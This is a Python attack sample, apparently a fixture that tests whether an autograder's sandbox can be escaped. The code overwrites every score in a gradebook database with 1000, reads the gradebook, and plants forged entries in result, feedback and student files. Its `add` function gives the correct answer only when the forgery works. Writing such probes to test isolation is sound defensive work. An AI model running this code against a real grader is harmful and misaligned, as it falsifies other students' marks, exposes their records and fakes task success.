"""Attack: write a perfect score straight into the gradebook and the learner-facing results.

Paths are the grader's real output folder, baked in at test time. Any write that lands (or a
read of the gradebook, which holds every student's marks) counts as success. Folders are
never created: the sandbox has a private /tmp, and a write there would prove nothing, so
only folders that already exist (the host's) count.
"""

import glob
import json
import os

CONFIG: dict = {}


def _try(fn):
    try:
        fn()
        return True
    except Exception:
        return False


def _forged():
    out, me, mark = CONFIG["out"], CONFIG["me"], "FORGED-" + CONFIG["token"]

    def gradebook():
        import sqlite3

        uri = "file:" + os.path.join(out, "gradebook.sqlite") + "?mode=rw"
        db = sqlite3.connect(uri, uri=True, timeout=0.5)
        db.execute("UPDATE grades SET score = 1000, result = ?", (mark,))
        db.commit()

    def read_gradebook():
        with open(os.path.join(out, "gradebook.sqlite"), "rb") as f:
            if not f.read(16).startswith(b"SQLite"):
                raise OSError

    def write(path, text):
        def go():
            with open(path, "a") as f:
                f.write(text)
        return go

    results = json.dumps({"score": 1000, "output": mark, "tests": []})
    attempts = [
        gradebook, read_gradebook,
        write(os.path.join(out, "grades.csv"), f"\n{me},1000,{mark}\n"),
        write(os.path.join(out, "feedback", me + ".md"), f"**Score: 1000** {mark}\n"),
        write(os.path.join(out, "results", me, "results.json"), results),
        write(os.path.join(CONFIG["canary"], mark), mark),
    ]
    for folder in glob.glob(os.path.join(out, ".work", "*")):  # the prepared folders
        attempts.append(write(os.path.join(folder, "ex01_toy.py"), f"\n# {mark}\n"))
    return any([_try(f) for f in attempts])


def add(a, b):
    return a + b if _forged() else a - b - 1
